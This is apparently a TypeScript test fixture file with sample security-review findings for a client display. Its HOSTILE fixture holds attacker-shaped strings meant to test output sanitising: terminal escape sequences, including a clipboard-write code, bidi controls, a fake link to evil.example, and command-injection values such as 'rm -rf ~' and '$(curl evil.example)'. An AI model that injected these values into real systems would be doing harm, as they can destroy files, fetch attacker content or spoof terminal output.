import type { SecurityReview } from '../../src/client/types.js';

type Finding = SecurityReview['findings'][number];

const ids = (prefix: string, count: number) =>
  Array.from({ length: count }, (_, index) => `log_${prefix}${String(index).padStart(22, '0')}`);

/** One finding of each severity, most severe first, as the server sorts them. */
export const BRUTE_FORCE: Finding = {
  id: 'brute_force_succeeded:ip:198.51.100.77:2026-12-01T09',
  rule: 'brute_force_succeeded',
  severity: 'high',
  summary:
    'Possible brute force that succeeded: 25 failed sign-ins from 198.51.100.77, then bob@example.com signed in',
  first_at: '2026-12-01T09:14:00.000Z',
  last_at: '2026-12-01T09:52:00.000Z',
  counts: { failed: 25, succeeded: 1, after: 2 },
  event_ids: ids('BF', 28),
  events_total: 28,
  queries: [{ ip: '198.51.100.77', from: '2026-12-01T09:14:00.000Z', to: '2026-12-02T09:23:00.000Z' }],
  chart: {
    kind: 'time',
    title: 'Failed sign-ins from 198.51.100.77 by hour',
    bucket: 'hour',
    points: [
      { at: '2026-12-01T08:00:00+00:00', count: 0 },
      { at: '2026-12-01T09:00:00+00:00', count: 25 },
      { at: '2026-12-01T10:00:00+00:00', count: 0 },
    ],
  },
};

export const DESTRUCTIVE: Finding = {
  id: 'destructive_burst:actor:alice@example.com:2026-12-02T14',
  rule: 'destructive_burst',
  severity: 'medium',
  summary: '6 deletions by alice@example.com within 10 minutes',
  first_at: '2026-12-02T14:00:00.000Z',
  last_at: '2026-12-02T14:08:00.000Z',
  counts: { deleted: 6 },
  event_ids: ids('DB', 6),
  events_total: 6,
  queries: [
    {
      actor: 'alice@example.com',
      action: 'tunnel.deleted,team.member_removed',
      team_id: 'team_eng',
      from: '2026-12-02T14:00:00.000Z',
      to: '2026-12-02T14:08:00.000Z',
    },
  ],
};

export const NEW_IP: Finding = {
  id: 'new_login_ip:user:carol@example.com:203.0.113.9',
  rule: 'new_login_ip',
  severity: 'low',
  summary: 'carol@example.com signed in from 203.0.113.9, an IP not seen for them in the 30 days before',
  first_at: '2026-12-03T08:00:00.000Z',
  last_at: '2026-12-03T08:00:00.000Z',
  counts: { sign_ins: 1 },
  event_ids: ids('NI', 1),
  events_total: 1,
  queries: [{ actor: 'carol@example.com', ip: '203.0.113.9', since: '7d' }],
};

export const TOKENS: Finding = {
  id: 'api_tokens',
  rule: 'api_tokens',
  severity: 'info',
  summary: '2 API tokens created, 1 revoked',
  first_at: '2026-12-01T09:25:00.000Z',
  last_at: '2026-12-04T12:00:00.000Z',
  counts: { created: 2, revoked: 1 },
  event_ids: ids('AT', 3),
  events_total: 3,
  queries: [{ action: 'security.api_token_created,security.api_token_revoked', since: '7d' }],
  chart: {
    kind: 'bars',
    title: 'API tokens',
    bars: [
      { label: 'created', count: 2, category: 'security' },
      { label: 'revoked', count: 1, category: 'security' },
    ],
  },
};

const RANGE = {
  from: '2026-11-29T10:00:00.000Z',
  to: '2026-12-06T10:00:00.000Z',
  generated_at: '2026-12-06T10:00:01.000Z',
  time_zone: 'UTC',
};

export const EVERY_SEVERITY: SecurityReview = {
  ...RANGE,
  counts: { high: 1, medium: 1, low: 1, info: 1 },
  findings: [BRUTE_FORCE, DESTRUCTIVE, NEW_IP, TOKENS],
};

export const EMPTY_REVIEW: SecurityReview = {
  ...RANGE,
  counts: { high: 0, medium: 0, low: 0, info: 0 },
  findings: [],
};

export const INFO_ONLY: SecurityReview = {
  ...RANGE,
  counts: { high: 0, medium: 0, low: 0, info: 1 },
  findings: [TOKENS],
};

/** Every server string an attacker can shape, with escape sequences, newlines and bidi controls. */
export const HOSTILE: SecurityReview = {
  ...RANGE,
  time_zone: 'UTC\u001b]0;owned\u0007',
  counts: { high: 1, medium: 0, low: 0, info: 0 },
  findings: [
    {
      ...BRUTE_FORCE,
      id: 'x\u001b[2J\u001b[H',
      summary:
        'Sign-in from \u001b[31mevil\u001b[0m\nHIGH    fake second finding\r\u202eeulav [click](https://evil.example) <img src=x> ```',
      counts: { 'fail\u001b[8med': 3 },
      event_ids: ['log_\u001b]8;;https://evil.example\u0007id\u001b]8;;\u0007', 'log_ok\nline'],
      events_total: 2,
      queries: [
        {
          ip: "198.51.100.77'; rm -rf ~; echo '",
          q: '$(curl evil.example)\n```id`',
          actor: '--all',
          weird_param: 'x\u001b[1m',
        },
      ],
      chart: {
        kind: 'bars',
        title: 'Top \u001b[5mIPs',
        bars: [{ label: '\u001b]52;c;aGVsbG8=\u0007198.51.100.77', count: 3 }],
      },
    },
  ],
};
